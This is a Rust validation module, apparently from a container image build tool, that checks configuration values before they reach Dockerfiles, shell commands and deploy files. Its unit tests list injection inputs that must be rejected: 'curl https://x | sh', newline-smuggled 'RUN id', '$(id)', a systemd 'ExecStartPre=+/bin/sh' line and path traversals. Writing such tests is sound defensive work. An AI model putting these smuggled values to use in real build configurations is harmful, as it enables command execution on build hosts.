//! What each configuration value can legally be: pure grammar checks, run before any value
//! reaches a Dockerfile, a shell command or a deploy file.
//!
//! Each check returns `Err(rule)`, a phrase saying what the value must be; [`config`] turns it
//! into one error naming the key and the layer that set it (imggen.toml, `IMGGEN_*` or a flag).

use crate::config::Config;
use anyhow::{bail, Result};

/// A Debian package name (`[a-z0-9][a-z0-9+.-]+`), optionally `=version`.
pub fn debian_package(s: &str) -> Result<(), &'static str> {
    const RULE: &str = "a Debian package name such as `libssl-dev` or `curl=7.88.1-10`";
    let (name, version) = match s.split_once('=') {
        Some((n, v)) => (n, Some(v)),
        None => (s, None),
    };
    let name_ok = name.len() >= 2
        && name.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
        && name
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "+.-".contains(c));
    let version_ok = version.is_none_or(|v| {
        v.starts_with(|c: char| c.is_ascii_digit())
            && v.chars()
                .all(|c| c.is_ascii_alphanumeric() || ".+~:-".contains(c))
    });
    if name_ok && version_ok {
        Ok(())
    } else {
        Err(RULE)
    }
}

/// A name cargo accepts for a package, a binary target or a feature: letters, digits, `-`,
/// `_` (and `+`, `.` after the first character for features).
fn cargo_ident(s: &str, feature: bool) -> bool {
    let mut chars = s.chars();
    chars
        .next()
        .is_some_and(|c| c.is_alphanumeric() || c == '_' || (!feature && c == '-'))
        && chars
            .all(|c| c.is_alphanumeric() || c == '_' || c == '-' || (feature && "+.".contains(c)))
}

/// A package or binary target name cargo accepts (it refuses anything else).
pub fn cargo_name(s: &str) -> Result<(), &'static str> {
    if cargo_ident(s, false) && !s.starts_with(|c: char| c.is_ascii_digit()) {
        Ok(())
    } else {
        Err("a cargo name: letters, digits, `-` and `_`, not starting with a digit")
    }
}

/// A cargo feature, `feat` or `dep/feat` (whether `dep` exists is checked against the lockfile).
pub fn cargo_feature(s: &str) -> Result<(), &'static str> {
    let ok = match s.split_once('/') {
        Some((dep, feat)) => cargo_ident(dep, false) && cargo_ident(feat, true),
        None => cargo_ident(s, true),
    };
    if ok {
        Ok(())
    } else {
        Err("a cargo feature name (letters, digits, `_`, `-`, `+`, `.`) or `dependency/feature`")
    }
}

/// A cargo profile name: letters, digits, `-` and `_`.
pub fn profile(s: &str) -> Result<(), &'static str> {
    if s.starts_with(|c: char| c.is_ascii_alphabetic())
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
    {
        Ok(())
    } else {
        Err("a cargo profile name such as `release` or `production` (letters, digits, `-`, `_`)")
    }
}

/// A Rust release (`1.95` or `1.95.0`) or channel (`stable`, `beta`, `nightly`, optionally
/// `-YYYY-MM-DD`).
pub fn rust_version(s: &str) -> Result<(), &'static str> {
    let digits = |p: &str| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit());
    let parts: Vec<&str> = s.split('.').collect();
    let release = (2..=3).contains(&parts.len()) && parts.iter().all(|p| digits(p));
    let channel = ["stable", "beta", "nightly"].iter().any(|c| {
        s == *c
            || s.strip_prefix(c)
                .and_then(|d| d.strip_prefix('-'))
                .is_some_and(|d| {
                    let p: Vec<&str> = d.split('-').collect();
                    p.len() == 3
                        && p.iter().all(|x| digits(x))
                        && p[0].len() == 4
                        && p[1].len() == 2
                        && p[2].len() == 2
                })
    });
    if release || channel {
        Ok(())
    } else {
        Err("a Rust release such as `1.95.0` or a channel such as `stable` or `nightly-2026-01-01`")
    }
}

/// An image reference, `[host[:port]/]path[:tag][@digest]` in Docker's grammar.
pub fn image_reference(s: &str) -> Result<(), &'static str> {
    match crate::reference::Reference::parse(s) {
        Ok(_) => Ok(()),
        Err(_) => Err("an image reference such as `ghcr.io/acme/api` or `rust:1.95-bookworm` (lowercase path, optional :tag and @sha256:digest)"),
    }
}

/// An image tag: word characters, `.` and `-`, at most 128, not starting with `.` or `-`.
pub fn image_tag(s: &str) -> Result<(), &'static str> {
    if (1..=128).contains(&s.len())
        && s.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
    {
        Ok(())
    } else {
        Err("an image tag such as `1.4.0` (letters, digits, `_`, `.`, `-`)")
    }
}

/// A relative directory inside the project: slash-separated names of letters, digits, `.`, `_`,
/// `-`, `+` and `@`, none `.`, `..` or starting with `-`.
pub fn relative_dir(s: &str) -> Result<(), &'static str> {
    let ok = !s.is_empty()
        && s.trim_end_matches('/').split('/').all(|c| {
            !c.is_empty()
                && c != "."
                && c != ".."
                && !c.starts_with('-')
                && c.chars()
                    .all(|ch| ch.is_ascii_alphanumeric() || "._-+@".contains(ch))
        });
    if ok {
        Ok(())
    } else {
        Err("a relative path inside the project, like \"frontend/dist\"")
    }
}

/// A listen port: 1 to 65535.
pub fn port(p: u16) -> Result<(), &'static str> {
    if p == 0 {
        Err("not a port the app can listen on; use 1 to 65535")
    } else {
        Ok(())
    }
}

/// An environment variable name, `[A-Za-z_][A-Za-z0-9_]*`.
pub fn env_name(s: &str) -> Result<(), &'static str> {
    if s.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    {
        Ok(())
    } else {
        Err("an environment variable name (letters, digits and `_`, not starting with a digit)")
    }
}

/// An environment value: any text on one line. Every platform file quotes values, but a line
/// break or NUL has no portable quoting (systemd's EnvironmentFile, fly secrets, shells).
pub fn env_value(s: &str) -> Result<(), &'static str> {
    if s.chars().any(|c| c.is_control() && c != '\t') {
        Err("a value on one line, without NUL or other control characters")
    } else {
        Ok(())
    }
}

/// An absolute URL path without spaces, quotes or query: `/healthz`.
pub fn url_path(s: &str) -> Result<(), &'static str> {
    if s.starts_with('/')
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "/-._~%:@!*+,=".contains(c))
    {
        Ok(())
    } else {
        Err("an absolute URL path such as `/healthz` (no spaces, quotes or query)")
    }
}

/// A DNS host name: dot-separated labels of letters, digits and inner `-`, at most 253 long.
pub fn dns_name(s: &str) -> Result<(), &'static str> {
    let ok = (1..=253).contains(&s.len())
        && s.split('.').all(|l| {
            (1..=63).contains(&l.len())
                && !l.starts_with('-')
                && !l.ends_with('-')
                && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
        });
    if ok {
        Ok(())
    } else {
        Err("a host name such as \"api.example.org\"")
    }
}

/// Checks every value of a (layered) configuration; the first bad one is the error.
pub fn config(c: &Config) -> Result<()> {
    let check = |key: &str, value: &str, rule: Result<(), &'static str>| -> Result<()> {
        match rule {
            Ok(()) => Ok(()),
            Err(rule) => bail!("{} must be {rule}", c.setting(key, value)),
        }
    };
    if let Some(v) = &c.bin {
        check("bin", v, cargo_name(v))?;
    }
    if let Some(v) = &c.profile {
        check("profile", v, profile(v))?;
    }
    for v in c.features.iter().flatten() {
        check("features", v, cargo_feature(v))?;
    }
    if let Some(v) = &c.rust_version {
        check("rust_version", v, rust_version(v))?;
    }
    if let Some(v) = &c.builder_image {
        check("builder_image", v, image_reference(v))?;
    }
    if let Some(p) = c.port {
        if let Err(rule) = port(p) {
            bail!("{} is {rule}", c.setting("port", &p.to_string()));
        }
    }
    if let Some(v) = &c.health_path {
        check("health_path", v, url_path(v))?;
    }
    for v in c.include.iter().flatten() {
        check("include", v, relative_dir(v))?;
    }
    for v in c.build_packages.iter().flatten() {
        check("build_packages", v, debian_package(v))?;
    }
    for v in c.runtime_packages.iter().flatten() {
        check("runtime_packages", v, debian_package(v))?;
    }
    for (k, v) in c.env.iter().flatten() {
        check("env", k, env_name(k))?;
        check(&format!("env.{k}"), v, env_value(v))?;
    }
    if let Some(image) = &c.image {
        if let Some(v) = &image.name {
            check("image.name", v, image_reference(v))?;
        }
        for v in image.tags.iter().flatten() {
            check("image.tags", v, image_tag(v))?;
        }
    }
    if let Some(vm) = &c.vm {
        if let Some(v) = &vm.domain {
            check("vm.domain", v, dns_name(v))?;
        }
        if let Some(v) = &vm.static_dir {
            check("vm.static_dir", v, relative_dir(v))?;
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn debian_packages() {
        for ok in [
            "libssl-dev",
            "g++",
            "libc6=2.36-9+deb12u4",
            "ca-certificates",
            "7zip",
        ] {
            assert!(debian_package(ok).is_ok(), "{ok}");
        }
        for bad in [
            "curl\nRUN id",
            "curl; curl https://x | sh",
            "-o",
            "Curl",
            "a",
            "",
            "x=$(id)",
            "x y",
        ] {
            assert!(debian_package(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn cargo_names_and_features() {
        for ok in ["hello-axum", "api_v2", "x"] {
            assert!(cargo_name(ok).is_ok(), "{ok}");
        }
        for bad in ["", "1st", "a b", "a\nRUN id", "a;b", "a/b", "$(id)"] {
            assert!(cargo_name(bad).is_err(), "{bad:?}");
        }
        for ok in ["db", "serde/derive", "tls-rustls", "v1.2", "c++"] {
            assert!(cargo_feature(ok).is_ok(), "{ok}");
        }
        for bad in ["", "a/b/c", "x/$(id)", "dep:x", "a b", "a;b", "/x", "x/"] {
            assert!(cargo_feature(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn profiles_versions_images() {
        assert!(profile("release").is_ok() && profile("prod-lto_2").is_ok());
        for bad in ["", "re lease", "release\nRUN id", "-x", "a/b"] {
            assert!(profile(bad).is_err(), "{bad:?}");
        }
        for ok in ["1.95", "1.95.0", "stable", "nightly-2026-01-01"] {
            assert!(rust_version(ok).is_ok(), "{ok}");
        }
        for bad in ["1", "1.95\nRUN id", "latest", "nightly-26", "1.x"] {
            assert!(rust_version(bad).is_err(), "{bad:?}");
        }
        for ok in ["rust:1.95", "ghcr.io/acme/api", "127.0.0.1:5000/a/b:v1"] {
            assert!(image_reference(ok).is_ok(), "{ok}");
        }
        for bad in ["rust:1\nRUN id", "Acme/API", "a b", ""] {
            assert!(image_reference(bad).is_err(), "{bad:?}");
        }
        assert!(
            image_tag("1.4.0").is_ok() && image_tag("-x").is_err() && image_tag("a b").is_err()
        );
    }

    #[test]
    fn paths_ports_env_routes_domains() {
        for ok in ["config", "frontend/dist", "data/v1.2", ".well-known"] {
            assert!(relative_dir(ok).is_ok(), "{ok}");
        }
        for bad in [
            "/",
            "/etc",
            "../outside",
            "config/../../..",
            "~/.ssh",
            "-rf",
            "",
            "x$(id)",
            "a b",
            "a//b",
            "./a",
        ] {
            assert!(relative_dir(bad).is_err(), "{bad:?}");
        }
        assert!(port(0).is_err() && port(1).is_ok());
        assert!(env_name("RUST_LOG").is_ok() && env_name("_X1").is_ok());
        for bad in ["A B", "A\nB", "1A", "", "A=B"] {
            assert!(env_name(bad).is_err(), "{bad:?}");
        }
        assert!(env_value("a b \"c\" $d %e").is_ok());
        assert!(env_value("a\nExecStartPre=+/bin/sh").is_err() && env_value("a\0").is_err());
        assert!(url_path("/healthz").is_ok() && url_path("/api/v1/health").is_ok());
        for bad in ["health", "/health check", "/h\"", "/h'", "/h;x", "/h?x"] {
            assert!(url_path(bad).is_err(), "{bad:?}");
        }
        assert!(dns_name("api.example.org").is_ok() && dns_name("localhost").is_ok());
        for bad in [".", "", "a..b", "-a.com", "a b", "a.com."] {
            assert!(dns_name(bad).is_err(), "{bad:?}");
        }
    }
}
